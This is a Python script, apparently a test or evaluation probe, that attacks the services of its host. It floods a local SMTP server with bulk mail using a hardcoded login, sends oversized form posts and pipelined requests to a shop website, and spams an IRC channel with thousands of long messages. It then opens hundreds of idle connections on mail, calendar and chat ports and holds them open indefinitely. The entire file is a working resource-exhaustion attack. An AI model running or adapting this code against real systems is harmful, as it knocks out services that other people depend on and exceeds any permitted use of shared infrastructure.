"""What an agent may do to the services of its computer; runs inside, says `holding` and keeps every connection."""

import contextlib
import resource
import smtplib
import socket
import sys
import threading
import urllib.request

ADDRESS, PASSWORD = "rosa.weber@alder.example", "Lantern-204"
IDLE = 400
HELD: "list[socket.socket]" = []


def hold(port: int) -> None:
    """Open connections on which nothing is ever said."""
    for _ in range(IDLE):
        one = socket.socket()
        one.settimeout(0.2)
        with contextlib.suppress(OSError):
            one.connect(("127.0.0.1", port))
            HELD.append(one)


def post() -> None:
    """Send letters of 16 KB."""
    letter = "Subject: x\r\n\r\n" + ("y" * 70 + "\r\n") * 230
    with contextlib.suppress(OSError, smtplib.SMTPException), smtplib.SMTP("127.0.0.1", 587, timeout=20) as post:
        post.login(ADDRESS, PASSWORD)
        for _ in range(260):
            post.sendmail(ADDRESS, [ADDRESS], letter)


def fill() -> None:
    """Send forms of 16 KB, each six times as long where it is written down, and ask for many pages."""
    for _ in range(90):
        with contextlib.suppress(OSError):
            urllib.request.urlopen("http://shop.example/order", b"a=" + b"%01" * 5300, timeout=20).read()
    # On many connections: a site serves each for a bounded time only.
    for _ in range(60):
        with contextlib.suppress(OSError), socket.create_connection(("shop.example", 80), timeout=20) as visit:
            for _ in range(50):
                visit.sendall(b"GET /nothing HTTP/1.1\r\nHost: x\r\n\r\n")
                visit.recv(65536)


def chatter() -> None:
    """Say more in a channel than anybody would."""
    one = socket.create_connection(("127.0.0.1", 6667), timeout=20)
    HELD.append(one)
    one.sendall(b"NICK flood\r\nUSER flood 0 * :flood\r\nPING :1\r\n")
    while b"PONG" not in one.recv(65536):
        pass
    one.sendall(b"JOIN #club\r\nPING :2\r\n")
    while b"PONG" not in one.recv(65536):
        pass
    for _ in range(6000):
        one.sendall(b"PRIVMSG #club :" + b"z" * 420 + b"\r\n")


def main() -> None:
    """Do all of it at once, then hold on."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    flooding = [threading.Thread(target=each) for each in (post, fill, chatter)]
    for each in flooding:
        each.start()
    for each in flooding:
        each.join()
    holding = [threading.Thread(target=hold, args=(port,)) for port in (143, 587, 5232, 6667)]
    for each in holding:
        each.start()
    for each in holding:
        each.join()
    sys.stdout.write("holding\n")
    sys.stdout.flush()
    threading.Event().wait()


if __name__ == "__main__":
    main()
